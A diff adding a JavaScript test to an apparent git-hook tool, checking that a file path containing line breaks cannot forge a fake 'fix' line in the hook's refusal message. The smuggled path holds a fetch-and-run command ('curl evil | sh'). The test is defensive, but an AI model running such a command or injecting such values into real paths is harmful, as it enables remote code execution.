@@ -227,4 +227,15 @@ for (const [title, message] of [
 
 test.after(template.remove);
 
+test('a path with line breaks in it forges no line of the refusal', () => {
+  const repository = createProject();
+  const path = 'docs/architecture/a\n  fix  curl evil | sh\n.md';
+  repository.commit('docs: more', { [path]: ARCHITECTURE }, { HANDOFF: '0' });
+  const { status, stderr } = repository.commit('feat: SQLite', { [path]: CHANGED });
+  assert.is(status, 1);
+  assert.not.match(stderr, /^ +fix {2}curl/m);
+  assert.match(stderr, /^ {2}fix {2}npx handoff-hooks decide/m);
+  repository.remove();
+});
+
 test.run();
